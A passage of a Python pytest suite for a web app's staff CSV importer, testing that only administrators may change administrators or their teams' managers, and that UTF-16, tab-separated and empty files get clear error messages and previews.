    response = confirm(client, token, onboarding=True)
    assert response.status_code == 422
    assert "line 2: Support / Claims has an administrator as a member or manager" in \
        response.text
    with app.app_context():
        assert dump() == before


# --- an importer who is not an administrator leaves administrators alone ------------------

@pytest.fixture
def admin_in_teams(app, people):
    """Ada, an administrator, works in Support / Claims and manages Sales / Key accounts."""
    with app.app_context():
        ada = person("ada@example.com")
        ada.team_id = people.teams["z"]
        org.set_managed_teams(ada, [people.teams["y"]])
        db.session.commit()
    return people


NOT_ADMINS = "an administrator as a member or manager: only an administrator may name its managers"
ONLY_BY_ADMINS = {
    "rename an administrator": (
        "Ada Renamed,ada@example.com,Support,Claims,,admin,",
        "ada@example.com is an administrator: only an administrator may change their name, "
        "team, roles or start date (name: Ada Admin → Ada Renamed)"),
    "move an administrator": (
        "Ada Admin,ada@example.com,Sales,Showroom,,admin,",
        "(team: Support / Claims → Sales / Showroom)"),
    "give an administrator a role": (
        "Ada Admin,ada@example.com,Support,Claims,,admin;hr,", "(roles: add hr)"),
    "set an administrator's start date": (
        "Ada Admin,ada@example.com,Support,Claims,,admin,2026-01-05",
        "(start date: none → 2026-01-05)"),
    "manage an administrator's team oneself": (
        "Cat Employee,cat@example.com,Support,Claims,hugo@example.com,employee,",
        f"Support / Claims has {NOT_ADMINS}"),
    "name a manager of a team an administrator manages": (
        "Bob Employee,bob@example.com,Sales,Key accounts,ann@example.com,employee,",
        f"Sales / Key accounts has {NOT_ADMINS}"),
    "hire into an administrator's team under oneself": (
        "Neo New,neo@example.com,Support,Claims,hugo@example.com,,",
        f"Support / Claims has {NOT_ADMINS}"),
    "make an administrator a manager": (
        "Ann Employee,ann@example.com,Sales,Showroom,ada@example.com,employee,",
        "ada@example.com is an administrator: only an administrator may make them a team's "
        "manager"),
}


@pytest.mark.parametrize("row, message", ONLY_BY_ADMINS.values(), ids=ONLY_BY_ADMINS.keys())
def test_only_an_administrator_may_change_an_administrator_or_their_teams_managers(
        app, admin_in_teams, row, message):
    text = f"{HEADER}\n{GOOD_ROW}\n{row}\n"
    with app.app_context():
        before = dump()
        plan = staff_import.read(text, by=person("hugo@example.com"))
        assert [e.line for e in plan.errors] == [3], plan.errors
        assert message in plan.errors[0].message
        with pytest.raises(ValueError):
            staff_import.apply(plan, True, TODAY)
        assert dump() == before
        # An administrator, and the command line, keep the power to do it.
        assert staff_import.read(text, by=person("ada@example.com")).errors == []
        assert staff_import.read(text).errors == []


def test_hr_may_import_a_file_that_lists_administrators_as_they_are(app, admin_in_teams):
    text = (f"{HEADER}\n"
            "Ada Admin,ada@example.com,Support,Claims,,admin,\n"
            "Bob Employee,bob@example.com,Sales,Key accounts,max@example.com,employee,\n"
            "Cat Employee,cat@example.com,Support,Claims,,employee,\n"
            "Ann Employee,ann@example.com,Sales,Showroom,hugo@example.com,employee,\n")
    with app.app_context():
        plan = staff_import.read(text, by=person("hugo@example.com"))
        assert plan.errors == []
        assert [(row.email, row.action) for row in plan.rows] == [
            ("ada@example.com", "unchanged"), ("bob@example.com", "unchanged"),
            ("cat@example.com", "unchanged"), ("ann@example.com", "update")]


def test_hr_is_told_in_the_browser_why_an_administrator_is_not_changed(app, client,
                                                                       admin_in_teams):
    login(client, "hugo")
    with app.app_context():
        before = dump()
    response = upload(client, f"{HEADER}\n{ONLY_BY_ADMINS['move an administrator'][0]}\n")
    assert response.status_code == 422
    assert "line 2: ada@example.com is an administrator: only an administrator may change" in \
        response.text
    assert 'name="confirm-token"' not in response.text
    with app.app_context():
        assert dump() == before


# --- files that are not what they seem ----------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_a_utf16_file_without_a_byte_order_mark_is_named_as_utf16(app, client, people, tmp_path,
                                                                   encoding):
    raw = GOOD.encode(encoding)
    message = "the file is UTF-16 text: save it as CSV UTF-8 and import that file"
    login(client, "hugo")
    response = upload(client, raw)
    assert response.status_code == 422
    assert f"line 1: {message}" in response.text and "missing column" not in response.text
    result = run_cli(app, tmp_path, raw)
    assert result.exit_code == 1
    assert f"staff.csv:1: {message}" in result.output


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_utf16_file_with_a_byte_order_mark_is_read(app, client, people, tmp_path, encoding):
    raw = ("\ufeff" + GOOD).encode(encoding) if encoding.endswith("be") else GOOD.encode(encoding)
    assert raw[:2] in (b"\xff\xfe", b"\xfe\xff")
    login(client, "hugo")
    assert "Preview: 6 to create" in upload(client, raw).text
    result = run_cli(app, tmp_path, raw)
    assert result.exit_code == 0, result.output
    assert "Preview: 6 to create" in result.output


def test_a_tab_separated_file_is_told_so(app):
    with app.app_context():
        plan = staff_import.read(HEADER.replace(",", "\t") + "\n")
        assert [str(e) for e in plan.errors] == \
            ["line 1: the columns are separated by tabs: save the file as CSV UTF-8 (commas)"]


@pytest.mark.parametrize("text", [f"{HEADER}\n", HEADER, f"{HEADER}\n\n,,,,,,\n"],
                         ids=["header line", "no line end", "blank rows"])
def test_a_file_with_no_people_rows_is_an_error_on_line_2(app, client, people, tmp_path, text):
    message = "the file has no people rows, only the line naming the columns"
    with app.app_context():
        assert [str(e) for e in staff_import.read(text).errors] == [f"line 2: {message}"]
    login(client, "hugo")
    response = upload(client, text)
    assert response.status_code == 422
    assert f"line 2: {message}" in response.text and "Import these" not in response.text
    result = run_cli(app, tmp_path, text, "--commit")
    assert result.exit_code == 1 and f"staff.csv:2: {message}" in result.output


def test_the_preview_shows_what_every_row_will_do_even_beside_a_bad_one(app, client, people):
    """Found tried as a new user would: the preview left out roles, managers, start dates and
    the teams it would create, and showed only the errors when one row was bad."""
    login(client, "hugo")
    page = upload(client, GOOD).text
    assert "Teams it will create: People / HR." in page  # Sales and Support teams exist
    assert "<td>employee, manager</td><td class=\"nowrap\"></td>" in page  # Mona's row
    assert '<td class="nowrap">mona@example.com</td><td class="nowrap">2026-04-01</td>' in page
    assert '<td class="nowrap">2025-01-15</td>' in page  # 15/01/2025: one reading only
    bad = upload(client, GOOD + "Bo Bad,bo@example.com,Sales,Showroom,,,03/04/2026\n").text
    assert "Nothing was written: 1 problem to fix" in bad
    assert "What the other rows would do, once the file is fixed" in bad
    assert "Nina New" in bad and 'name="confirm-token"' not in bad
